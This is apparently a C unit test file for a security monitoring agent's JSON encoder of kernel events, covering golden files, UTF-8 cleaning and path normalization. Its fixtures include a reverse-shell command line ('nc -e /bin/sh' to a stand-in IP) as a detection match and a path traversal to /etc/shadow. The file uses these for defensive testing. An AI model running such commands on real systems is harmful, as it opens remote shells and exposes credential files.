/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * JSON encoding of every kernel record type (the records of
 * event-fixtures.h) against golden files in tests/data/golden/, byte for
 * byte, and the fields each one is about.  Each output must also be one line of
 * valid JSON and valid UTF-8 with no raw control byte, whatever the kernel
 * put in its strings.  CLAWOS_UPDATE_GOLDEN=1 rewrites the golden files.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>

#include <cmocka.h>
#include <json-c/json.h>

#include "agent/event-json.h"
#include "agent/util/macro.h"
#include "agent/util/names.h"
#include "agent/util/utf8.h"
#include "event-fixtures.h"

#ifndef CLAWOS_SOURCE_ROOT
#define CLAWOS_SOURCE_ROOT "."
#endif

/* ---- checks on any encoded line ---- */

/* Independent of agent/util/utf8.c: strict UTF-8 (no overlong, no surrogate). */
static bool utf8_valid(const unsigned char *s, size_t n)
{
	for (size_t i = 0; i < n;) {
		unsigned char c = s[i];
		size_t len;
		uint32_t cp;

		if (c < 0x80) {
			i++;
			continue;
		}
		if (c >= 0xc2 && c <= 0xdf)
			len = 2, cp = c & 0x1f;
		else if (c >= 0xe0 && c <= 0xef)
			len = 3, cp = c & 0x0f;
		else if (c >= 0xf0 && c <= 0xf4)
			len = 4, cp = c & 0x07;
		else
			return false;
		if (i + len > n)
			return false;
		for (size_t k = 1; k < len; k++) {
			if ((s[i + k] & 0xc0) != 0x80)
				return false;
			cp = (cp << 6) | (s[i + k] & 0x3f);
		}
		if ((len == 3 && cp < 0x800) || (len == 4 && cp < 0x10000) || cp > 0x10ffff ||
		    (cp >= 0xd800 && cp <= 0xdfff))
			return false;
		i += len;
	}
	return true;
}

static char *read_file(const char *path)
{
	FILE *f = fopen(path, "re");
	char *buf = NULL;
	size_t size = 0;

	if (!f)
		return NULL;
	FILE *m = open_memstream(&buf, &size);
	assert_non_null(m);
	for (int c; (c = fgetc(f)) != EOF;)
		fputc(c, m);
	fclose(f);
	fclose(m);
	return buf;
}

static void golden_path(const char *name, char *path, size_t size)
{
	const char *root = getenv("CLAWOS_SOURCE_ROOT") ?: CLAWOS_SOURCE_ROOT;

	snprintf(path, size, "%s/tests/data/golden/%s.json", root, name);
}

/* One writer for the whole test, reused like the agent's. */
static struct json_writer writer;
static size_t encoded_len;

static const char *event_to_json(const struct clawos_event_hdr *h, const struct event_context *ctx)
{
	return event_json(&writer, h, ctx, &encoded_len);
}

/*
 * Checks an encoded line, compares it with the golden file and returns the
 * line parsed back (for field checks).
 */
static struct json_object *check_golden(const char *name, const char *s)
{
	struct json_tokener *tok = json_tokener_new();
	struct json_object *back;
	char path[4096], *want, *got;
	size_t len = encoded_len;

	assert_non_null(s);
	assert_int_equal(len, strlen(s));
	for (size_t i = 0; i < len; i++)
		if ((unsigned char)s[i] < 0x20)
			fail_msg("%s: raw control byte 0x%02x at %zu in %s", name, (unsigned char)s[i], i, s);
	assert_true(utf8_valid((const unsigned char *)s, len));

	back = json_tokener_parse_ex(tok, s, (int)len);
	if (!back || json_tokener_get_error(tok) != json_tokener_success || json_tokener_get_parse_end(tok) != len)
		fail_msg("%s: not one JSON value: %s", name, s);
	json_tokener_free(tok);
	assert_true(json_object_is_type(back, json_type_object));

	if (asprintf(&got, "%s\n", s) < 0)
		fail();
	golden_path(name, path, sizeof(path));
	if (getenv("CLAWOS_UPDATE_GOLDEN") && strcmp(getenv("CLAWOS_UPDATE_GOLDEN"), "1") == 0) {
		FILE *f = fopen(path, "we");

		if (!f)
			fail_msg("cannot write %s: %m", path);
		fputs(got, f);
		assert_int_equal(fclose(f), 0);
	}
	want = read_file(path);
	if (!want)
		fail_msg("missing golden file %s (run with CLAWOS_UPDATE_GOLDEN=1)", path);
	if (strcmp(want, got) != 0)
		fail_msg("%s differs from the golden file\n got: %s want: %s", name, got, want);
	free(want);
	free(got);
	return back;
}

static const char *get_str(struct json_object *o, const char *a, const char *b)
{
	struct json_object *x = NULL, *y = NULL;

	if (!json_object_object_get_ex(o, a, &x))
		return NULL;
	if (!b)
		return json_object_get_string(x);
	if (!json_object_object_get_ex(x, b, &y) || !y)
		return NULL;
	return json_object_get_string(y);
}

static bool has_key(struct json_object *o, const char *a, const char *b)
{
	struct json_object *x = NULL;

	if (!json_object_object_get_ex(o, a, &x))
		return false;
	return b ? json_object_object_get_ex(x, b, NULL) : true;
}

/* The fixture's record encoded, checked and compared with its golden file. */
static struct json_object *fixture_golden(const char *name)
{
	union fixture_record r;
	struct event_context ctx;

	fixture_build(fixture_named(name), &r, &ctx);
	return check_golden(name, event_to_json(&r.hdr, &ctx));
}

/* ---- exec ---- */

static void test_exec(void **state)
{
	static const char *const argv[] = {"/bin/sh", "-c",   "echo \"hello world\" > '/tmp/a b'",
					   "",	      "it's", "back\\slash"};
	struct json_object *back = fixture_golden("exec"), *a;

	assert_string_equal(get_str(back, "event", NULL), "exec");
	assert_string_equal(get_str(back, "time", NULL), "2026-01-02T03:04:05.123456789Z");
	assert_true(json_object_object_get_ex(json_object_object_get(back, "exec"), "argv", &a));
	assert_int_equal(json_object_array_length(a), ELEMENTSOF(argv));
	for (size_t i = 0; i < ELEMENTSOF(argv); i++)
		assert_string_equal(json_object_get_string(json_object_array_get_idx(a, i)), argv[i]);
	json_object_put(back);
}

static void test_exec_failed(void **state)
{
	struct json_object *back = fixture_golden("exec-failed");

	assert_string_equal(get_str(back, "exec", "error"), "ENOENT");
	assert_string_equal(get_str(back, "process", "ppid"), "1");
	json_object_put(back);
}

/* ---- file_access ---- */

/* Every byte that needs escaping or cleaning, in one kernel path. */
static void test_file_escapes(void **state)
{
	struct json_object *back = fixture_golden("file-escapes");
	const char *p;

	p = get_str(back, "file", "path");
	assert_non_null(p);
	/* escaped characters come back as themselves ... */
	assert_non_null(strstr(p, "q\"b\\n\nt\tesc\x1b"
				  "c\x01\x1f\x7f|"));
	/* ... and each invalid byte as U+FFFD */
	assert_non_null(strstr(p, "|ff\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|e2\xef\xbf\xbd\xef\xbf\xbdx|"));
	assert_non_null(strstr(p, "|c0\xef\xbf\xbd\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|ed\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|ok\xc3\xa9\xe2\x82\xac"));
	/* LSM paths are the kernel's own d_path: never rewritten */
	assert_false(has_key(back, "file", "path_raw"));
	assert_true(has_key(back, "file", "result"));
	assert_null(json_object_object_get(json_object_object_get(back, "file"), "result"));
	json_object_put(back);
}

/* A path filling the whole buffer, unterminated, ending in a cut sequence. */
static void test_file_unterminated(void **state)
{
	struct clawos_file_event e = {};
	struct json_object *back;
	const char *p;

	fixture_hdr(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memset(e.path, 'a', sizeof(e.path));
	e.path[0] = '/';
	e.path[sizeof(e.path) - 2] = '\xe2';
	e.path[sizeof(e.path) - 1] = '\x82';
	e.path_flags = CLAWOS_PATH_F_TRUNCATED;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	back = json_tokener_parse(event_to_json(&e.hdr, &fixture_ctx));
	assert_non_null(back);
	p = get_str(back, "file", "path");
	assert_int_equal(strlen(p), sizeof(e.path) - 2 + 6);
	assert_true(utf8_valid((const unsigned char *)p, strlen(p)));
	json_object_put(back);
}

static void test_file_normalized(void **state)
{
	struct json_object *back = fixture_golden("file-normalized");

	assert_string_equal(get_str(back, "file", "path"), "/etc/x");
	assert_string_equal(get_str(back, "file", "path_raw"), "/etc/./x");
	assert_string_equal(get_str(back, "file", "path_resolved"), "true");
	json_object_put(back);
}

static void test_file_enoent(void **state)
{
	struct json_object *back = fixture_golden("file-enoent");

	assert_string_equal(get_str(back, "file", "error"), "ENOENT");
	assert_string_equal(get_str(back, "file", "result"), "-2");
	assert_string_equal(get_str(back, "file", "syscall"), "openat2");
	assert_false(has_key(back, "file", "path_raw"));
	json_object_put(back);
}

/* O_CREAT on a name that did not exist: the kernel marked it created */
static void test_file_created(void **state)
{
	struct json_object *back = fixture_golden("file-created");

	assert_string_equal(get_str(back, "file", "created"), "true");
	assert_string_equal(get_str(back, "file", "path"), "/tmp/payload.sh");
	json_object_put(back);
}

/* Repeats folded in the kernel: count, first and last in the record's own
 * time forms; a record without X_REPEAT has no "repeat" at all. */
static void test_file_repeat(void **state)
{
	struct json_object *back = fixture_golden("file-repeat"), *none;

	assert_string_equal(get_str(back, "repeat", "count"), "9999");
	assert_string_equal(get_str(back, "repeat", "first"), get_str(back, "time", NULL));
	assert_string_equal(get_str(back, "repeat", "last"), "2026-01-02T03:04:05.322956789Z");
	assert_string_equal(get_str(back, "repeat", "first_boot_ns"), get_str(back, "boot_ns", NULL));
	assert_string_equal(get_str(back, "repeat", "last_boot_ns"), "1000199500000");
	json_object_put(back);
	none = fixture_golden("file-created");
	assert_false(json_object_object_get_ex(none, "repeat", NULL));
	json_object_put(none);
}

/* What was opened differs from what was asked for, in a chroot */
static void test_file_resolved(void **state)
{
	union fixture_record r;
	struct event_context ctx;
	struct json_object *back = fixture_golden("file-resolved");

	assert_string_equal(get_str(back, "file", "path"), "/etc/shadow");
	assert_string_equal(get_str(back, "file", "requested_path"), "../../../../etc/shadow");
	assert_string_equal(get_str(back, "file", "root"), "/srv/jail");
	assert_string_equal(get_str(back, "file", "protected_by"), "identity");
	assert_false(has_key(back, "file", "path_raw"));
	json_object_put(back);
	/* without requested_len the tail is not read: no requested_path */
	fixture_build(fixture_named("file-resolved"), &r, &ctx);
	r.file.requested_len = 0;
	r.file.xflags = CLAWOS_FILE_X_FROM_FILE;
	back = json_tokener_parse(event_to_json(&r.hdr, &ctx));
	assert_false(has_key(back, "file", "requested_path"));
	assert_false(has_key(back, "file", "root"));
	assert_false(has_key(back, "file", "protected_by"));
	json_object_put(back);
}

/* ---- network ---- */

static void test_network_connect4(void **state)
{
	struct json_object *back = fixture_golden("network-connect4");

	assert_string_equal(get_str(back, "network", "address"), "192.0.2.10");
	assert_string_equal(get_str(back, "network", "port"), "443");
	assert_string_equal(get_str(back, "network", "side"), "remote");
	assert_string_equal(get_str(back, "mechanism", NULL), "cgroup");
	json_object_put(back);
}

static void test_network_bind6(void **state)
{
	struct json_object *back = fixture_golden("network-bind6");

	/* one JSON record type for both wire types */
	assert_string_equal(get_str(back, "event", NULL), "network");
	assert_string_equal(get_str(back, "network", "family"), "inet6");
	assert_string_equal(get_str(back, "network", "address"), "2001:db8::1");
	assert_string_equal(get_str(back, "network", "side"), "local");
	json_object_put(back);
}

static void test_network_socket_raw(void **state)
{
	struct json_object *back = fixture_golden("network-socket-raw");

	assert_string_equal(get_str(back, "network", "op"), "socket_create");
	assert_string_equal(get_str(back, "network", "type"), "SOCK_RAW");
	assert_false(has_key(back, "network", "address"));
	json_object_put(back);
}

/* ---- cgroup, syscall, anomaly ---- */

static void test_cgroup(void **state)
{
	struct json_object *back = fixture_golden("cgroup");

	/* synthesised by user space: no CPU, no process */
	assert_true(has_key(back, "cpu", NULL));
	assert_null(json_object_object_get(back, "cpu"));
	assert_false(has_key(back, "process", NULL));
	json_object_put(back);
}

static void test_syscall(void **state)
{
	struct json_object *back = fixture_golden("syscall");

	assert_string_equal(get_str(back, "syscall", "name"), "openat");
	assert_int_equal(
	    json_object_array_length(json_object_object_get(json_object_object_get(back, "syscall"), "args")), 3);
	json_object_put(back);
}

static void test_anomaly(void **state)
{
	struct json_object *back = fixture_golden("anomaly"), *a;

	a = json_object_object_get(back, "anomaly");
	assert_int_equal(json_object_array_length(json_object_object_get(a, "ancestry")), 3);
	assert_int_equal(json_object_array_length(json_object_object_get(a, "top_syscalls")), 3);
	assert_string_equal(get_str(back, "anomaly", "severity"), "high");
	assert_string_equal(get_str(back, "target", "name"), "agent-7");
	assert_null(json_object_object_get(a, "subject"));
	assert_string_equal(json_object_get_string(json_object_object_get(
				json_object_array_get_idx(json_object_object_get(a, "ancestry"), 1), "exe")),
			    "/usr/sbin/sshd");
	json_object_put(back);
}

static void test_anomaly_file_violation(void **state)
{
	struct json_object *back = fixture_golden("anomaly-file-violation");

	assert_string_equal(get_str(back, "anomaly", "subject"), "/etc/shadow");
	assert_string_equal(get_str(back, "anomaly", "enforced"), "true");
	assert_false(has_key(back, "anomaly", "top_syscalls"));
	assert_false(has_key(back, "target", NULL));
	json_object_put(back);
}

/* A Sigma hit: rule and trigger come from user space, beyond the wire
 * record's fields (a rule id is longer than the wire's 31 bytes). */
static void test_anomaly_sigma(void **state)
{
	union fixture_record r;
	struct event_context ctx;
	struct json_object *back = fixture_golden("anomaly-sigma"), *sigma;

	assert_string_equal(get_str(back, "anomaly", "kind"), "sigma");
	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");
	assert_string_equal(get_str(back, "anomaly", "subject"), "/usr/bin/nc");
	sigma = json_object_object_get(json_object_object_get(back, "anomaly"), "sigma");
	/* a matched value is bounded by its length, not by a NUL */
	assert_string_equal(
	    json_object_get_string(json_object_object_get(json_object_object_get(sigma, "matched"), "CommandLine")),
	    "nc -e /bin/sh 192.0.2.1 4444");
	assert_int_equal(json_object_get_int(json_object_object_get(
			     json_object_object_get(json_object_object_get(back, "anomaly"), "trigger"), "seq")),
			 777);
	json_object_put(back);
	/* without its context (a fuzzed or foreign record) it is still one object */
	fixture_build(fixture_named("anomaly-sigma"), &r, &ctx);
	ctx.sigma = NULL;
	back = json_tokener_parse(event_to_json(&r.hdr, &ctx));
	assert_non_null(back);
	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b"); /* 31 bytes */
	assert_null(json_object_object_get(json_object_object_get(back, "anomaly"), "sigma"));
	json_object_put(back);
}

/* ---- process lifecycle ---- */

static void test_process_fork_exit(void **state)
{
	struct json_object *back = fixture_golden("process-fork");

	assert_string_equal(get_str(back, "lifecycle", "op"), "fork");
	assert_string_equal(get_str(back, "lifecycle", "child_pid"), "4300");
	json_object_put(back);

	back = fixture_golden("process-exit");
	assert_string_equal(get_str(back, "lifecycle", "exit_code"), "3");
	assert_false(has_key(back, "lifecycle", "signal"));
	json_object_put(back);

	back = fixture_golden("process-killed");
	assert_string_equal(get_str(back, "lifecycle", "signal"), "9");
	assert_false(has_key(back, "lifecycle", "exit_code"));
	json_object_put(back);
}

/* ---- helpers of the encoder ---- */

/* The "process" member kept from the last record (event-json.c) is used
 * only when every input is the same: each change below, including new
 * contents at the same address, must give what a fresh encoding gives. */
static void test_process_memo(void **state)
{
	struct json_writer w = {}, fresh = {};
	union fixture_record r;
	struct event_context ctx;
	char exe[64] = "/usr/bin/one", user[32] = "alice";
	const char *line, *want;
	size_t len, wlen;

	fixture_build(fixture_named("file-resolved"), &r, &ctx);
	ctx.exe = exe;
	ctx.user = user;
	for (int step = 0; step < 9; step++) {
		switch (step) {
		case 1: /* the same record again: from the memo */
			break;
		case 2:
			r.hdr.tid++;
			break;
		case 3:
			strcpy(exe, "/usr/bin/two"); /* same address, new contents */
			break;
		case 4:
			strcpy(user, "bob");
			break;
		case 5:
			r.hdr.comm[3] ^= 1;
			break;
		case 6:
			r.hdr.cgroup_id++;
			break;
		case 7:
			ctx.user = NULL;
			break;
		case 8:
			r.hdr.ppid = 0;
			ctx.ppid = 4242;
			break;
		}
		line = event_json(&w, &r.hdr, &ctx, &len);
		assert_non_null(line);
		event_json_forget();
		want = event_json(&fresh, &r.hdr, &ctx, &wlen);
		assert_non_null(want);
		assert_int_equal(len, wlen);
		assert_memory_equal(line, want, len);
		if (step == 3)
			assert_non_null(strstr(line, "\"exe\":\"/usr/bin/two\""));
		/* and the memo holds this record's member for the next step */
		line = event_json(&w, &r.hdr, &ctx, &len);
		assert_memory_equal(line, want, len);
	}
	event_json_forget();
	jw_free(&w);
	jw_free(&fresh);
}

static void test_utf8_clean(void **state)
{
	static const struct {
		const char *in;
		size_t len;
		const char *out;
		bool changed;
	} cases[] = {
	    {"plain", 5, "plain", false},
	    {"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xa7", 14, "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xa7", false},
	    {"a\xff"
	     "b",
	     3,
	     "a\xef\xbf\xbd"
	     "b",
	     true},
	    {"\xe2\x82", 2, "\xef\xbf\xbd\xef\xbf\xbd", true},		       /* truncated 3-byte */
	    {"\xe2\x82x", 3, "\xef\xbf\xbd\xef\xbf\xbdx", true},	       /* cut by an ASCII byte */
	    {"\xc0\xaf", 2, "\xef\xbf\xbd\xef\xbf\xbd", true},		       /* overlong '/' */
	    {"\xe0\x80\xaf", 3, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* overlong 3-byte */
	    {"\xed\xa0\x80", 3, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* surrogate */
	    {"\xf4\x90\x80\x80", 4, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* > U+10FFFF */
	    {"\x80", 1, "\xef\xbf\xbd", true},						       /* lone continuation */
	    {"ab\0cd", 5, "ab", false},							       /* stops at NUL */
	    {"abcdef", 3, "abc", false},						       /* stops at len */
	    {"\x1b[31m\n", 6, "\x1b[31m\n", false}, /* control bytes are JSON's job */
	};

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		char out[64];
		bool changed = !cases[i].changed;
		size_t n = utf8_clean(cases[i].in, cases[i].len, out, sizeof(out), &changed);

		assert_int_equal(n, strlen(cases[i].out));
		assert_memory_equal(out, cases[i].out, n + 1);
		assert_int_equal(changed, cases[i].changed);
	}
}

static void test_utf8_clean_small_buffer(void **state)
{
	char out[8];
	size_t n;

	/* never cuts a character: "€€€" needs 10 bytes */
	n = utf8_clean("\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac", 9, out, sizeof(out), NULL);
	assert_int_equal(n, 6);
	assert_string_equal(out, "\xe2\x82\xac\xe2\x82\xac");
	n = utf8_clean("\xff\xff\xff", 3, out, 4, NULL);
	assert_int_equal(n, 3);
	assert_string_equal(out, "\xef\xbf\xbd");
	n = utf8_clean("\xff\xff\xff", 3, out, 3, NULL);
	assert_int_equal(n, 0);
	assert_string_equal(out, "");
	n = utf8_clean("abc", 3, out, 0, NULL);
	assert_int_equal(n, 0);
	/* the worst case fits in 3 * len + 1 */
	{
		char bad[16], big[3 * sizeof(bad) + 1];

		memset(bad, 0xff, sizeof(bad));
		n = utf8_clean(bad, sizeof(bad), big, sizeof(big), NULL);
		assert_int_equal(n, 3 * sizeof(bad));
	}
}

static void test_path_normalize(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
	    {"/", "/"},
	    {"/.", "/"},
	    {"/..", "/"},
	    {"/etc/./x", "/etc/x"},
	    {"/etc//x", "/etc/x"},
	    {"/etc/x/", "/etc/x"},
	    {"/a/b/../c", "/a/c"},
	    {"/a/b/../../c", "/c"},
	    {"/a/../../../c", "/c"},
	    {"/home/u/./../u/.ssh/./id", "/home/u/.ssh/id"},
	    {"/a/...", "/a/..."},
	    {"/a/..b/.c", "/a/..b/.c"},
	    {"//srv///data//", "/srv/data"},
	};
	char out[64];

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		assert_int_equal(path_normalize(cases[i].in, out, sizeof(out)), 0);
		assert_string_equal(out, cases[i].out);
	}
	assert_int_equal(path_normalize("relative/x", out, sizeof(out)), -EINVAL);
	assert_int_equal(path_normalize("", out, sizeof(out)), -EINVAL);
	assert_int_equal(path_normalize("/", out, 1), -EINVAL);
	assert_int_equal(path_normalize("/abcdefgh", out, 8), -ENAMETOOLONG);
	assert_int_equal(path_normalize("/abcdef", out, 8), 0);
	assert_string_equal(out, "/abcdef");
}

static void test_format_rfc3339(void **state)
{
	char buf[40];

	assert_int_equal(format_rfc3339(0, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "1970-01-01T00:00:00.000000000Z");
	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.123456789Z");
	assert_int_equal(format_rfc3339(1000000001ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "1970-01-01T00:00:01.000000001Z");
	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS, buf, 30), -ENOSPC);
	/* the second's text is cached: the same second, other nanoseconds,
	 * then the next second and a year boundary */
	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS - 123456789, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.000000000Z");
	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS + 876543210, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.999999999Z");
	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS + 876543211, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:06.000000000Z");
	assert_int_equal(format_rfc3339(1767225599999999999ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2025-12-31T23:59:59.999999999Z");
	assert_int_equal(format_rfc3339(1767225600000000000ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-01T00:00:00.000000000Z");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_exec),
	    cmocka_unit_test(test_exec_failed),
	    cmocka_unit_test(test_anomaly_sigma),
	    cmocka_unit_test(test_file_escapes),
	    cmocka_unit_test(test_file_unterminated),
	    cmocka_unit_test(test_file_normalized),
	    cmocka_unit_test(test_file_created),
	    cmocka_unit_test(test_file_repeat),
	    cmocka_unit_test(test_file_resolved),
	    cmocka_unit_test(test_file_enoent),
	    cmocka_unit_test(test_network_connect4),
	    cmocka_unit_test(test_network_bind6),
	    cmocka_unit_test(test_network_socket_raw),
	    cmocka_unit_test(test_cgroup),
	    cmocka_unit_test(test_syscall),
	    cmocka_unit_test(test_anomaly),
	    cmocka_unit_test(test_anomaly_file_violation),
	    cmocka_unit_test(test_process_fork_exit),
	    cmocka_unit_test(test_process_memo),
	    cmocka_unit_test(test_utf8_clean),
	    cmocka_unit_test(test_utf8_clean_small_buffer),
	    cmocka_unit_test(test_path_normalize),
	    cmocka_unit_test(test_format_rfc3339),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
